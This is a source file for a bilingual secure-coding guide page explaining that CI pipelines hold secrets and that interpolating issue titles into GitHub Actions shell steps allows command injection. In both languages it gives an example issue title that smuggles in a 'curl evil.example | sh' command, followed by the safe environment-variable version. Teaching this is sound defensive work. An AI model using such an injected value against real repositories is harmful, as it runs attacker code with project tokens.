// The concept page `workflows`: a pipeline is a program that runs with everybody's keys.

import { defineConcept } from '../concepts.ts'

export default defineConcept({
  id: 'workflows',
  en: {
    title: 'Pipelines are programs with keys',
    body: `
A workflow looks like a list of settings, but it is a program. It builds what customers get, and it holds
the keys for that: a token that may push, passwords of registries, access to the cloud.

\`\`\`yaml
# .github/workflows/greet.yml
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Thanks for \${{ github.event.issue.title }}"
\`\`\`

The expression is replaced before the shell reads the line. Whoever opens an issue called
\`"; curl evil.example | sh; "\` runs a command of theirs with your token. Given as a variable, the same
title is only a text:

\`\`\`sh
echo "Thanks for $TITLE"
\`\`\`

And it is a program without a compiler. A misspelt output is the empty text, a condition with a word
too many is always true, and nobody notices until the day of the release.

- Who can start this workflow, and what of what they write does it read?
- Which keys does this job need? Give it those, in \`permissions\`, and no others.
- What happens when a name in it is wrong: does anything fail?
`,
  },
  es: {
    title: 'Los pipelines son programas con llaves',
    body: `
Un workflow parece una lista de ajustes, pero es un programa. Construye lo que reciben los clientes y
para ello guarda las llaves: un token que puede escribir, contraseñas de registros, acceso a la nube.

\`\`\`yaml
# .github/workflows/greet.yml
on: issues
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Gracias por \${{ github.event.issue.title }}"
\`\`\`

La expresión se sustituye antes de que el shell lea la línea. Quien abra una incidencia titulada
\`"; curl evil.example | sh; "\` ejecuta una orden suya con tu token. Pasado como variable, el mismo título
no es más que un texto:

\`\`\`sh
echo "Gracias por $TITULO"
\`\`\`

Y es un programa sin compilador. Una salida mal escrita es el texto vacío, una condición con una palabra
de más siempre se cumple, y nadie lo nota hasta el día de la entrega.

- ¿Quién puede iniciar este workflow y qué lee de lo que esa persona escribe?
- ¿Qué llaves necesita este job? Dale esas, en \`permissions\`, y ninguna más.
- ¿Qué pasa si un nombre está mal: falla algo?
`,
  },
})
